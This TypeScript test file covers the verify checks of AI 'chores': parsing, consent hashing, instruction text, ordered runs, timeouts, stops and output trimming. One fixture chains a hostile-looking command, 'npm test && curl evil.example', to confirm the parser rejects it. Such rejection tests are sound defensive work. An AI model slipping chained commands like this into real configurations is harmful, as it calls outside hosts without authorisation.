/**
 * A chore's `verify:` checks (issue 43): declared with the grammar of `commands:`, covered by the
 * consent hash, told to the model before it starts, and run one after another through the given
 * runner with a bounded output and a stop that kills the check running.
 */
import * as assert from 'node:assert/strict';
import type { CommandResult } from '../../../src/core/approval/commands/commandApproval';
import { checksFailedMessage, outputTail, runChecks } from '../../../src/core/checks/checkRun';
import { parseChoresFile } from '../../../src/core/chores/choreFile';
import { choreInstruction } from '../../../src/core/chores/choreStartSpec';
import { choreDefinitionHash } from '../../../src/core/consent/definitionHash';

const yaml = (extra: string) => `chores:
  - id: fix
    name: Fix
    trigger: { cron: "0 2 * * *" }
    prompt: Fix the tests.
${extra
  .split('\n')
  .filter(Boolean)
  .map((l) => `    ${l}`)
  .join('\n')}
`;

const result = (exitCode: number | null, output = '', more: Partial<CommandResult> = {}): CommandResult => ({
  exitCode,
  output,
  truncatedChars: 0,
  timedOut: false,
  cancelled: false,
  durationMs: 5,
  ...more,
});

describe('chore verify: checks', () => {
  it('are declared argv-exact like commands:, with rounds defaulted and clamped', () => {
    const ok = parseChoresFile(yaml('verify: ["npm test", "npm run lint"]'));
    assert.deepEqual(ok.diagnostics, []);
    assert.deepEqual(ok.chores[0]?.verify, ['npm test', 'npm run lint']);
    assert.equal(ok.chores[0]?.verifyRounds, 3);
    // Checks alone grant the model no command: the runner runs them, not the model.
    assert.equal(ok.chores[0]?.actionSets.includes('commands'), false);

    const chained = parseChoresFile(yaml('verify: ["npm test && curl evil.example"]'));
    assert.deepEqual(chained.disabled, ['fix']);
    assert.match(chained.diagnostics[0]?.message ?? '', /verify: "npm test && curl evil\.example" cannot be declared/);

    const clamped = parseChoresFile(yaml('verify: ["npm test"]\nverifyRounds: 50'));
    assert.equal(clamped.chores[0]?.verifyRounds, 10);
    assert.equal(clamped.diagnostics[0]?.severity, 'warning');

    const stray = parseChoresFile(yaml('verifyRounds: 2'));
    assert.match(stray.diagnostics[0]?.message ?? '', /verifyRounds only applies with verify/);
  });

  it('are covered by the consent hash, and a chore without them keeps its hash', () => {
    const [plain] = parseChoresFile(yaml('')).chores;
    const [checked] = parseChoresFile(yaml('verify: ["npm test"]')).chores;
    const [other] = parseChoresFile(yaml('verify: ["node check.js"]')).chores;
    assert.ok(plain && checked && other);
    assert.equal('verify' in plain, false);
    assert.notEqual(choreDefinitionHash(checked), choreDefinitionHash(plain));
    assert.notEqual(choreDefinitionHash(checked), choreDefinitionHash(other));
  });

  it('are named to the model in its instruction before it starts', () => {
    const [chore] = parseChoresFile(yaml('verify: ["npm test"]\nverifyRounds: 2')).chores;
    assert.match(choreInstruction(chore!), /these checks run in the workspace with your changes, in order: `npm test`.*at most 2 rounds/);
  });

  it('run in order and stop at the first failure', async () => {
    const ran: string[] = [];
    const results = await runChecks(
      ['a', 'b', 'c'],
      async (line) => {
        ran.push(line);
        return result(line === 'b' ? 2 : 0, `out of ${line}`);
      },
      { timeoutMs: 1000 },
    );
    assert.deepEqual(ran, ['a', 'b']);
    assert.deepEqual(
      results.map((r) => [r.command, r.ok, r.exitCode]),
      [
        ['a', true, 0],
        ['b', false, 2],
      ],
    );
    assert.match(checksFailedMessage(results[1]!, 1, 3), /`b` exited 2[\s\S]*out of b[\s\S]*2 more rounds/);
  });

  it('a timeout, a runner that throws, and a stop are failures that say why; a stop skips the rest', async () => {
    const [late] = await runChecks(['slow'], async () => result(null, '', { timedOut: true }), { timeoutMs: 2000 });
    assert.equal(late?.ok, false);
    assert.equal(late?.problem, 'did not finish within 2 s');
    const [broken] = await runChecks(['x'], async () => Promise.reject(new Error('spawn ENOENT')), { timeoutMs: 1000 });
    assert.equal(broken?.problem, 'spawn ENOENT');
    const controller = new AbortController();
    const ran: string[] = [];
    const stopped = await runChecks(
      ['first', 'second'],
      async (line) => {
        ran.push(line);
        controller.abort();
        return result(null, '', { cancelled: true });
      },
      { timeoutMs: 1000, signal: controller.signal },
    );
    assert.deepEqual(ran, ['first']);
    assert.equal(stopped[0]?.problem, 'stopped before it finished');
  });

  it('give the model the end of a long output, cut at a line', () => {
    const long = Array.from({ length: 2000 }, (_, i) => `line ${i}`).join('\n');
    const tail = outputTail(long, 100);
    assert.ok(tail.length <= 102, `${tail.length}`);
    assert.match(tail, /^…\nline \d+\n/);
    assert.match(tail, /line 1999$/);
  });
});
